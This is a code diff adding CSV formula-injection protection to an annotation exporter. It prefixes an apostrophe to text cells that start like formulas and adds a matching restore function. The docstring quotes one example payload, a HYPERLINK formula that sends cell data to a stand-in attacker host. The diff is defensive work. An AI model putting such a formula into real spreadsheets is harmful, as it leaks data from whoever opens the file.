@@ -12,6 +12,17 @@ like this:
 
 ``reviewed_by`` lists reviewer usernames separated by ``;`` (usernames cannot
 contain it). ``verdict_rating`` is the ClaimReview rating (1-5) or empty.
+
+Formula injection: a spreadsheet runs a cell that begins with ``=``, ``+``, ``-``,
+``@``, a tab, a carriage return or a NUL (or the full-width ``＝ ＋ － ＠``) as a
+formula, so a speaker or claim such as ``=HYPERLINK("http://evil.example/?"&A1,"x")``
+would act when the file is opened. Every text cell that begins with one of those,
+or with an apostrophe, is written with one more apostrophe in front (the OWASP
+convention: spreadsheets show the rest as text). Removing one leading apostrophe
+from a text cell that begins with one gives the exact text back (:func:`restore`);
+the JSONL and the other formats keep the exact text. A negative number written in
+a text column (``-4.2`` as a verdict summary) is text and gets the apostrophe too;
+the integer columns (offsets, ordinal, counts, rating) are numbers and never do.
 """
 
 from __future__ import annotations
@@ -24,6 +35,41 @@ from typing import IO, Any
 from ..models import VERDICT_RATINGS
 from .base import Counts, DataFile, SegmentRecord, canonical, reviewed_by
 from .jsonl import CITATION_KEYS
+
+# A text cell beginning with one of these is run as a formula by some spreadsheet;
+# the apostrophe itself is listed so that removing one leading apostrophe always
+# restores the original text.
+FORMULA_STARTS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "\x00",
+    "\uff1d",
+    "\uff0b",
+    "\uff0d",
+    "\uff20",
+    "'",
+)
+NEUTRALISED = (
+    "Text cells that begin with =, +, -, @, a tab, a carriage return, a NUL, their "
+    "full-width forms or an apostrophe are written with a leading apostrophe (') so that "
+    "spreadsheets do not run them as formulas; remove one leading apostrophe to get the "
+    "exact text (the JSONL export has it as is)."
+)
+
+
+def neutralise(text: str) -> str:
+    """``text`` as a CSV cell a spreadsheet will not run: an apostrophe before a formula start."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def restore(cell: str) -> str:
+    """The exact text of a text cell written by :func:`neutralise`."""
+    return cell[1:] if cell.startswith("'") else cell
+
 
 # (column, Table Schema type, description)
 COLUMNS: tuple[tuple[str, str, str], ...] = (
@@ -60,10 +106,17 @@ COLUMNS: tuple[tuple[str, str, str], ...] = (
 HEADER = [name for name, _, _ in COLUMNS]
 
 
+# Which columns hold text (neutralised); numbers are written as they are.
+_IS_TEXT = tuple(kind == "string" for _, kind, _ in COLUMNS)
+
+
 def table_schema() -> dict[str, Any]:
     fields = []
     for name, kind, description in COLUMNS:
         field: dict[str, Any] = {"name": name, "type": kind}
+        if kind == "string":
+            note = "A leading apostrophe was added if the text begins like a formula."
+            description = f"{description}. {note}" if description else note
         if description:
             field["description"] = description
         fields.append(field)
@@ -71,6 +124,15 @@ def table_schema() -> dict[str, Any]:
 
 
 def row(segment: SegmentRecord, annotation: dict[str, Any]) -> list[Any]:
+    """The CSV row of one annotation, its text cells neutralised."""
+    cells = _cells(segment, annotation)
+    return [
+        neutralise(cell) if text and isinstance(cell, str) else cell
+        for text, cell in zip(_IS_TEXT, cells, strict=True)
+    ]
+
+
+def _cells(segment: SegmentRecord, annotation: dict[str, Any]) -> list[Any]:
     citations = annotation["citations"]
     rating = VERDICT_RATINGS.get(annotation["verdict"])
     return [
@@ -123,7 +185,7 @@ class CsvExporter:
                 mediatype="text/csv",
                 description="One annotation a row. Citations: citation_urls and "
                 "citation_stances hold one value per line; citations holds them all "
-                "as a JSON array.",
+                f"as a JSON array. {NEUTRALISED}",
                 schema=table_schema(),
             )
         ]
